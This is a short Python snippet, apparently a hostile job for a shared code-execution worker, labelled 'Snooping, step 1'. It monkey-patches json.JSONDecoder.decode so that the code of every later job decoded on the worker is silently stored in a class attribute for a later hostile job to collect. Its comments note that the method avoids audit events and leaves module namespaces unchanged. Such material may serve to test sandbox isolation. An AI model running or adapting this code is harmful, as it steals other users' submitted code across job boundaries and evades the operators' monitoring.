# Snooping, step 1: patch json.JSONDecoder.decode (a class attribute: no audit event, no
# module namespace changed). The executor decodes every request with it, so the code of every
# later job on this worker is kept in a class attribute for a later hostile job to collect.
import json

_original = json.JSONDecoder.decode


def _spying(self, s, *args, **kwargs):
    value = _original(self, s, *args, **kwargs)
    if isinstance(value, dict) and 'code' in value:
        json.JSONDecoder.adv_stash.append(str(value.get('code'))[:2000])
    return value


json.JSONDecoder.adv_stash = []
json.JSONDecoder.decode = _spying


def f():
    return 'decoder spy installed'
